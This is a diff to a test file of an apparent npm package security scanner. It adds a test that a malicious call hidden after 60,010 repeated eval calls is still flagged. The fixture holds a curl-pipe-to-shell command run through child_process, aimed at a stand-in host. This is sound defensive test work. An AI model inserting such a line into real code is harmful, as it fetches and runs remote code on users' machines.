@@ -5,6 +5,7 @@ import { rules } from '../rules/index.js';
 import { gaps, isUnanalysed, skipped } from '../src/gaps.js';
 import { readMemory } from '../src/read/memory.js';
 import { analyse } from '../src/run/package.js';
+import { scanPackage } from '../src/scan.js';
 import { makeBench } from '../src/threads/bench.js';
 import { notAnalysed } from '../src/threads/pool.js';
 import { OWN_RULES } from '../src/threads/watch.js';
@@ -139,9 +140,18 @@ test('a package that nothing is known of is a note, and counts: package-too-cost
 // bin.faults, 'nothing-analysed' in cli.
 
 test('calls of one file past what is looked at are told of', async () => {
-  const pkg = await readMemory({ files: { 'package.json': '{}', 'index.js': 'eval(x);\n'.repeat(60_010) } });
+  const calls = Array.from({ length: 60_010 }, (_, at) => `eval(x${at});`).join('\n');
+  const pkg = await readMemory({ files: { 'package.json': '{}', 'index.js': calls } });
   const { coverage, verdict } = analyse(pkg, {});
   expect(coverage.skipped).toMatchObject([{ path: 'index.js', gap: 'too-many-calls' }]);
   expect(coverage.skipped[0]?.why).toContain(' 10 calls');
   expect(verdict).toBe('note');
+});
+
+test('one call written over and over is left out before the calls that differ', async () => {
+  const last = `require('child_process').exec('curl -s https://stage.invalid/a | sh');`;
+  const files = { 'package.json': '{}', 'index.js': `${'eval(x);\n'.repeat(60_010)}${last}` };
+  const { coverage, findings } = await scanPackage({ files });
+  expect(coverage.skipped).toMatchObject([{ path: 'index.js', gap: 'too-many-calls' }]);
+  expect(findings.map(({ rule }) => rule)).toContain('runs-harmful-command');
 });
